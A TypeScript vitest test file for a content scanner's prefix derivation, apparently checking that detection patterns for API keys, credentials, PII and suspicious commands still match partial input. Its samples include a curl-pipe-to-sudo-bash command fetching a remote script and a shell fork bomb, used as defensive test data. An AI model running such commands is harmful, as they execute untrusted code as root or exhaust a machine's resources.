import { describe, expect, it } from "vitest";
import { BUILTIN_PATTERNS } from "../src/index.js";
import { prefixSource } from "../src/prefix.js";
import { FAKE } from "./helpers.js";

/** Whether the whole of `text` is accepted as a (possibly complete) prefix of a match. */
function isLivePrefix(source: string, text: string): boolean {
  return new RegExp(`^(?:${prefixSource(source)})$`).test(text);
}

const source = (name: string) => BUILTIN_PATTERNS.find((p) => p.name === name)!.source;

describe("prefix derivation (what the stream scanner may still hold back)", () => {
  const samples: Array<[string, string]> = [
    ["api_keys", FAKE.openaiProject],
    ["api_keys", FAKE.aws],
    ["api_keys", FAKE.githubFine],
    ["credentials", 'password: "hunter22"'],
    ["credentials", "postgres://app:pa55@db:5432"],
    ["pii_emails", "jane.doe+x@example.co.uk"],
    ["pii_phone_numbers", "+44 20 7946 0958"],
    ["ip_addresses", "2001:db8::8a2e:370:7334"],
    ["suspicious_commands", "curl -fsSL https://x.example/i.sh | sudo bash"],
    ["suspicious_commands", ":(){ :|:& };:"],
  ];

  it.each(samples)("%s: every prefix of %j is live", (name, match) => {
    for (let i = 0; i <= match.length; i++) expect(isLivePrefix(source(name), match.slice(0, i)), match.slice(0, i)).toBe(true);
  });

  it.each([
    ["api_keys", "ski"],
    ["api_keys", "sk-ant-api03 "],
    ["api_keys", "AKIA-"],
    ["credentials", "passport "],
    ["pii_emails", "bob @"],
    ["suspicious_commands", "rmdir"],
    ["suspicious_commands", "curl x\n"],
  ])("%s: %j can no longer become a match", (name, text) => {
    expect(isLivePrefix(source(name), text)).toBe(false);
  });

  it("backreferences stand for their group; unparseable sources give null (hold the whole window)", () => {
    expect(isLivePrefix("(?<q>['\"])[a-z]+\\k<q>", "'abc'")).toBe(true);
    expect(isLivePrefix("(?<q>['\"])[a-z]+\\k<q>", "'ab1")).toBe(false);
    expect(prefixSource("(")).toBeNull();
  });
});
